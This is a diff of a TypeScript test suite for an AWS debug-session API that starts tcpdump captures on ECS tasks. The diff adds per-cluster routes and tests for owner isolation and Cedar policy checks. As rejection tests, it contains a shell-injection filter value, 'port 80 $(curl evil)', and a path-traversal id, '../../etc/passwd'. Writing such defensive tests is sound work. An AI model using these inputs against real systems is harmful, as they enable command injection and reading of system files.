@@ -5,11 +5,15 @@ import {
   ListExecutionsCommand,
   StartExecutionCommand,
 } from '@aws-sdk/client-sfn';
-import { PutObjectCommand } from '@aws-sdk/client-s3';
-import type { APIGatewayProxyEventV2WithIAMAuthorizer } from 'aws-lambda';
+import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { handleApiRequest } from '../../../lib/api/routes';
 import { toStepFunctionsError, DebugTaskError } from '../../../lib/domain/errors';
-import { FAKE, aws, useAwsMocks } from '../../support/aws';
+import type { RouteName } from '../../../lib/domain/routes';
+import { apiEvent, type ApiEventInit } from '../../support/api-event';
+import { FAKE, aws, noSuchKey, objectBody, useAwsMocks } from '../../support/aws';
 
 useAwsMocks({ BUCKET_NAME: 'artifacts' });
 
@@ -19,34 +23,23 @@ const TASK = 'arn:aws:ecs:xx-test-1:123456789012:task/prod/0123456789abcdef01234
 const CALLER = 'arn:aws:iam::123456789012:user/alice';
 const ID = 'dt-20261125123456-a1b2c3';
 
-function event(
-  routeKey: string,
-  init: { body?: unknown; id?: string } = {},
-): APIGatewayProxyEventV2WithIAMAuthorizer {
-  return {
-    routeKey,
-    body:
-      init.body === undefined
-        ? undefined
-        : typeof init.body === 'string'
-          ? init.body
-          : JSON.stringify(init.body),
-    isBase64Encoded: false,
-    pathParameters: init.id ? { id: init.id } : undefined,
-    requestContext: { authorizer: { iam: { userArn: CALLER } } },
-  } as unknown as APIGatewayProxyEventV2WithIAMAuthorizer;
-}
+/** The execution input of a session alice started on cluster prod. */
+const OWNED = JSON.stringify({
+  sessionId: ID,
+  caller: CALLER,
+  spec: { target: { task: TASK, cluster: 'prod' }, tool: 'tcpdump' },
+});
 
-async function call(routeKey: string, init?: { body?: unknown; id?: string }) {
-  const res = await handleApiRequest(event(routeKey, init));
+async function call(route: RouteName, init?: ApiEventInit) {
+  const res = await handleApiRequest(apiEvent(route, init));
   return { status: res.statusCode, body: JSON.parse(res.body ?? '{}') };
 }
 
-describe('POST /sessions', () => {
+describe('POST /clusters/{cluster}/tools/{tool}/sessions', () => {
   it('starts an execution named after a new session id, with the caller recorded', async () => {
     sfn.on(StartExecutionCommand).resolves({ executionArn: 'x', startDate: new Date() });
 
-    const { status, body } = await call('POST /sessions', {
+    const { status, body } = await call('start', {
       body: { target: { task: TASK }, tool: 'tcpdump' },
     });
 
@@ -63,7 +56,7 @@ describe('POST /sessions', () => {
   });
 
   it('answers 400 INVALID_FILTER and starts nothing for a hostile filter', async () => {
-    const { status, body } = await call('POST /sessions', {
+    const { status, body } = await call('start', {
       body: { target: { task: TASK }, tool: 'tcpdump', filter: 'port 80 $(curl evil)' },
     });
 
@@ -73,7 +66,7 @@ describe('POST /sessions', () => {
   });
 
   it('answers 400 INVALID_TASK_ARN for a target that is not a task', async () => {
-    const { status, body } = await call('POST /sessions', {
+    const { status, body } = await call('start', {
       body: { target: { task: 'i-0123' }, tool: 'tcpdump' },
     });
     expect(status).toBe(400);
@@ -81,14 +74,14 @@ describe('POST /sessions', () => {
   });
 
   it('answers 400 INVALID_ARGUMENT when the body is not JSON', async () => {
-    const { status, body } = await call('POST /sessions', { body: 'tool=tcpdump' });
+    const { status, body } = await call('start', { body: 'tool=tcpdump' });
     expect(status).toBe(400);
     expect(body.error).toMatchObject({ code: 'INVALID_ARGUMENT', message: 'The request body is not JSON.' });
   });
 
   it('answers 502 AWS_ERROR naming the call, without internals, when StartExecution fails', async () => {
     sfn.on(StartExecutionCommand).rejects(new Error('Rate exceeded'));
-    const { status, body } = await call('POST /sessions', {
+    const { status, body } = await call('start', {
       body: { target: { task: TASK }, tool: 'tcpdump' },
     });
     expect(status).toBe(502);
@@ -98,11 +91,11 @@ describe('POST /sessions', () => {
   });
 });
 
-describe('GET /sessions/{id}', () => {
+describe('GET /clusters/{cluster}/sessions/{id}', () => {
   it('shows the phase of a running session from the last state entered', async () => {
     sfn
       .on(DescribeExecutionCommand)
-      .resolves({ status: 'RUNNING', executionArn: `${SM}:${ID}`, startDate: new Date() });
+      .resolves({ input: OWNED, status: 'RUNNING', executionArn: `${SM}:${ID}`, startDate: new Date() });
     sfn.on(GetExecutionHistoryCommand).resolves({
       events: [
         { type: 'TaskScheduled', id: 9, timestamp: new Date() },
@@ -115,7 +108,7 @@ describe('GET /sessions/{id}', () => {
       ],
     });
 
-    const { status, body } = await call('GET /sessions/{id}', { id: ID });
+    const { status, body } = await call('get', { id: ID });
 
     expect(status).toBe(200);
     expect(body).toMatchObject({ sessionId: ID, status: 'RUNNING', phase: 'Poll' });
@@ -133,9 +126,11 @@ describe('GET /sessions/{id}', () => {
         { index: 0, sessionId: `${ID}-0000`, status: 'SUCCEEDED', artifact: { bucket: 'artifacts', key } },
       ],
     };
-    sfn.on(DescribeExecutionCommand).resolves({ status: 'SUCCEEDED', output: JSON.stringify(result) });
+    sfn
+      .on(DescribeExecutionCommand)
+      .resolves({ input: OWNED, status: 'SUCCEEDED', output: JSON.stringify(result) });
 
-    const { body } = await call('GET /sessions/{id}', { id: ID });
+    const { body } = await call('get', { id: ID });
 
     expect(body.status).toBe('SUCCEEDED');
     expect(body.result).toEqual(result);
@@ -151,12 +146,13 @@ describe('GET /sessions/{id}', () => {
       new DebugTaskError('HOST_BUSY', 'i-0abc already runs 2 debug sessions.', { hint: 'wait' }),
     );
     sfn.on(DescribeExecutionCommand).resolves({
+      input: OWNED,
       status: 'FAILED',
       error: raised.name,
       cause: JSON.stringify({ errorType: raised.name, errorMessage: raised.message }),
     });
 
-    const { body } = await call('GET /sessions/{id}', { id: ID });
+    const { body } = await call('get', { id: ID });
 
     expect(body.status).toBe('FAILED');
     expect(body.error).toEqual({
@@ -168,24 +164,24 @@ describe('GET /sessions/{id}', () => {
 
   it('answers 404 SESSION_NOT_FOUND for an unknown session', async () => {
     sfn.on(DescribeExecutionCommand).rejects(new ExecutionDoesNotExist({ message: 'no', $metadata: {} }));
-    const { status, body } = await call('GET /sessions/{id}', { id: ID });
+    const { status, body } = await call('get', { id: ID });
     expect(status).toBe(404);
     expect(body.error.code).toBe('SESSION_NOT_FOUND');
   });
 
   it('answers 400 without calling AWS for a malformed id', async () => {
-    const { status } = await call('GET /sessions/{id}', { id: '../../etc/passwd' });
+    const { status } = await call('get', { id: '../../etc/passwd' });
     expect(status).toBe(400);
     expect(sfn).not.toHaveReceivedCommand(DescribeExecutionCommand);
   });
 });
 
-describe('DELETE /sessions/{id}', () => {
+describe('DELETE /clusters/{cluster}/sessions/{id}', () => {
   it('leaves a cancel marker for the Poll step rather than stopping the execution (so Cleanup runs)', async () => {
-    sfn.on(DescribeExecutionCommand).resolves({ status: 'RUNNING' });
+    sfn.on(DescribeExecutionCommand).resolves({ input: OWNED, status: 'RUNNING' });
     s3.on(PutObjectCommand).resolves({});
 
-    const { status, body } = await call('DELETE /sessions/{id}', { id: ID });
+    const { status, body } = await call('cancel', { id: ID });
 
     expect(status).toBe(202);
     expect(body).toEqual({ sessionId: ID, status: 'CANCELLING' });
@@ -196,8 +192,8 @@ describe('DELETE /sessions/{id}', () => {
   });
 
   it('does nothing to a session that has already ended', async () => {
-    sfn.on(DescribeExecutionCommand).resolves({ status: 'SUCCEEDED' });
-    const { body } = await call('DELETE /sessions/{id}', { id: ID });
+    sfn.on(DescribeExecutionCommand).resolves({ input: OWNED, status: 'SUCCEEDED' });
+    const { body } = await call('cancel', { id: ID });
     expect(body.status).toBe('SUCCEEDED');
     expect(s3).not.toHaveReceivedCommand(PutObjectCommand);
   });
@@ -225,15 +221,193 @@ describe('GET /sessions', () => {
       }),
     } as never);
     sfn.on(DescribeExecutionCommand, { executionArn: 'b' }).rejects(new Error('throttled'));
-    const { body } = await call('GET /sessions');
-    expect(body.sessions.map((s: { status: string }) => s.status)).toEqual(['RUNNING', 'CANCELLED']);
-    // Who asked for what, from each execution's input; a row whose input cannot be read still lists.
-    expect(body.sessions[0]).toMatchObject({
-      target: 'service web (cluster prod)',
-      tool: 'tcpdump',
-      caller: 'arn:aws:iam::123456789012:user/alice',
-      kind: 'service',
+    const { body } = await call('list');
+    // Who asked for what, from each execution's input; a row whose owner cannot be told is left out.
+    expect(body.sessions).toEqual([
+      expect.objectContaining({
+        sessionId: ID,
+        status: 'RUNNING',
+        cluster: 'prod',
+        target: 'service web (cluster prod)',
+        tool: 'tcpdump',
+        caller: 'arn:aws:iam::123456789012:user/alice',
+        kind: 'service',
+      }),
+    ]);
+  });
+});
+
+describe('who may act on a session (owner isolation, the deployment policy)', () => {
+  const BOB = 'arn:aws:sts::123456789012:assumed-role/security/bob';
+  const PLAN = {
+    v: 2,
+    sessionId: ID,
+    kind: 'task',
+    clusterArn: 'arn:aws:ecs:xx-test-1:123456789012:cluster/prod',
+    targets: [
+      {
+        index: 0,
+        sessionId: `${ID}-0000`,
+        taskArn: TASK,
+        clusterArn: 'arn:aws:ecs:xx-test-1:123456789012:cluster/prod',
+        container: 'web',
+        containerId: 'c',
+        instanceId: 'i-0abc',
+        service: 'payments',
+        tags: { team: 'payments' },
+        launchType: 'EC2',
+        networkMode: 'bridge',
+      },
+    ],
+    skipped: [],
+  };
+  let policyDir: string;
+  const usePolicy = (text: string) => {
+    const file = join(policyDir, `policy-${Math.random().toString(36).slice(2)}.cedar`);
+    writeFileSync(file, text);
+    process.env.DEBUG_TASK_POLICY_FILE = file;
+  };
+  beforeAll(() => {
+    policyDir = mkdtempSync(join(tmpdir(), 'debug-task-policy-'));
+  });
+  afterAll(() => rmSync(policyDir, { recursive: true, force: true }));
+  beforeEach(() => {
+    sfn
+      .on(DescribeExecutionCommand)
+      .resolves({ input: OWNED, status: 'RUNNING', executionArn: `${SM}:${ID}` });
+    sfn.on(GetExecutionHistoryCommand).resolves({ events: [] });
+    s3.on(PutObjectCommand).resolves({});
+    s3.on(GetObjectCommand).rejects(noSuchKey());
+    s3.on(GetObjectCommand, { Key: `sessions/${ID}/plan.json` }).resolves(objectBody(JSON.stringify(PLAN)));
+  });
+  afterEach(() => {
+    delete process.env.DEBUG_TASK_POLICY_FILE;
+  });
+
+  it('lets the owner read and cancel their own session, with no policy at all', async () => {
+    expect((await call('get', { id: ID })).status).toBe(200);
+    expect((await call('cancel', { id: ID })).body).toEqual({ sessionId: ID, status: 'CANCELLING' });
+  });
+
+  it.each([
+    ['get', 'read'],
+    ['cancel', 'cancel'],
+    ['reupload', 'fetch'],
+  ] as const)(
+    'refuses %s to anyone else without a policy: 403 NOT_AUTHORIZED, nothing revealed',
+    async (route, action) => {
+      const { status, body } = await call(route, { id: ID, caller: BOB });
+
+      expect(status).toBe(403);
+      expect(body.error.code).toBe('NOT_AUTHORIZED');
+      expect(body.error.message).toContain(`not yours to ${action}`);
+      expect(JSON.stringify(body)).not.toMatch(/i-0abc|X-Amz-Signature|alice/);
+      expect(s3).not.toHaveReceivedCommand(PutObjectCommand);
+    },
+  );
+
+  it('lets another principal read when the policy permits read on the session’s task, and names the rule that refuses cancel', async () => {
+    usePolicy(`@id("security-reads-payments")
+permit (principal, action == DebugTask::Action::"read", resource)
+when { principal.arn like "*:assumed-role/security/*" && resource.hasTag("team") && resource.getTag("team") == "payments" };`);
+
+    const read = await call('get', { id: ID, caller: BOB });
+    expect(read.status).toBe(200);
+    expect(read.body).toMatchObject({ sessionId: ID, status: 'RUNNING' });
+    const cancel = await call('cancel', { id: ID, caller: BOB });
+    expect(cancel.status).toBe(403);
+    expect(cancel.body.error).toMatchObject({
+      code: 'NOT_AUTHORIZED',
+      details: { action: 'cancel', rule: 'no permit applies' },
     });
-    expect(body.sessions[1]).not.toHaveProperty('target');
+    expect(s3).not.toHaveReceivedCommand(PutObjectCommand);
+  });
+
+  it('decides on the tasks Plan resolved (their tags), not on what the request named', async () => {
+    usePolicy(`@id("reads-team-search")
+permit (principal, action == DebugTask::Action::"read", resource)
+when { resource.hasTag("team") && resource.getTag("team") == "search" };`);
+
+    const { status, body } = await call('get', { id: ID, caller: BOB });
+
+    expect(status).toBe(403);
+    expect(body.error.code).toBe('NOT_AUTHORIZED');
+  });
+
+  it('a forbid names its @id', async () => {
+    usePolicy(`permit (principal, action, resource);
+@id("nobody-cancels-payments")
+forbid (principal, action == DebugTask::Action::"cancel", resource) when { resource.service == "payments" };`);
+
+    const { body } = await call('cancel', { id: ID, caller: BOB });
+
+    expect(body.error.code).toBe('NOT_AUTHORIZED');
+    expect(body.error.message).toContain('forbid "nobody-cancels-payments"');
+  });
+
+  it('a session of another cluster is not found through this cluster’s routes, even for its owner', async () => {
+    const { status, body } = await call('get', { id: ID, cluster: 'staging' });
+
+    expect(status).toBe(404);
+    expect(body.error.code).toBe('SESSION_NOT_FOUND');
+    expect(sfn).not.toHaveReceivedCommand(GetExecutionHistoryCommand);
+  });
+
+  it('list shows the caller only what they may read; ?id= finds one session’s cluster', async () => {
+    sfn.on(ListExecutionsCommand).resolves({
+      executions: [
+        { name: ID, status: 'RUNNING', executionArn: 'a', stateMachineArn: SM, startDate: new Date(0) },
+      ],
+    });
+    sfn.on(DescribeExecutionCommand).resolves({ name: ID, input: OWNED, status: 'RUNNING' });
+
+    expect((await call('list', { caller: BOB })).body.sessions).toEqual([]);
+    expect((await call('list')).body.sessions).toHaveLength(1);
+    expect((await call('list', { query: { id: `${ID}-0000` } })).body.sessions).toEqual([
+      expect.objectContaining({ sessionId: `${ID}-0000`, cluster: 'prod' }),
+    ]);
+    expect((await call('list', { caller: BOB, query: { id: ID } })).body.sessions).toEqual([]);
+    expect((await call('listCluster', { cluster: 'staging' })).body.sessions).toEqual([]);
+  });
+
+  it('a start whose body names another cluster or tool than its route is refused before anything starts', async () => {
+    const otherCluster = await call('start', {
+      cluster: 'staging',
+      body: { target: { task: TASK }, tool: 'tcpdump' },
+    });
+    const otherTool = await call('start', {
+      tool: 'ngrep',
+      body: { target: { task: TASK }, tool: 'tcpdump' },
+    });
+
+    expect(otherCluster.status).toBe(400);
+    expect(otherCluster.body.error.message).toMatch(
+      /cluster "prod" but --cluster says "staging"|route is for cluster "staging"/,
+    );
+    expect(otherTool.body.error.message).toContain('its route is for tool "ngrep"');
+    expect(sfn).not.toHaveReceivedCommand(StartExecutionCommand);
+  });
+});
+
+describe('a deployment policy that cannot be used', () => {
+  it('denies (AWS_ERROR naming file:line:col for the operator), never falls back to no policy', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'debug-task-policy-'));
+    const file = join(dir, 'broken.cedar');
+    writeFileSync(file, 'permit (principal, action, resource)\nwhen { resource.nope == 1 };');
+    process.env.DEBUG_TASK_POLICY_FILE = file;
+    sfn.on(DescribeExecutionCommand).resolves({ input: OWNED, status: 'RUNNING' });
+    try {
+      const { status, body } = await call('get', {
+        id: ID,
+        caller: 'arn:aws:iam::123456789012:user/mallory',
+      });
+
+      expect(status).toBe(502);
+      expect(body.error.code).toBe('AWS_ERROR');
+      expect(body.error.message).toMatch(/broken\.cedar:2:\d+: .*nope/);
+    } finally {
+      delete process.env.DEBUG_TASK_POLICY_FILE;
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 });
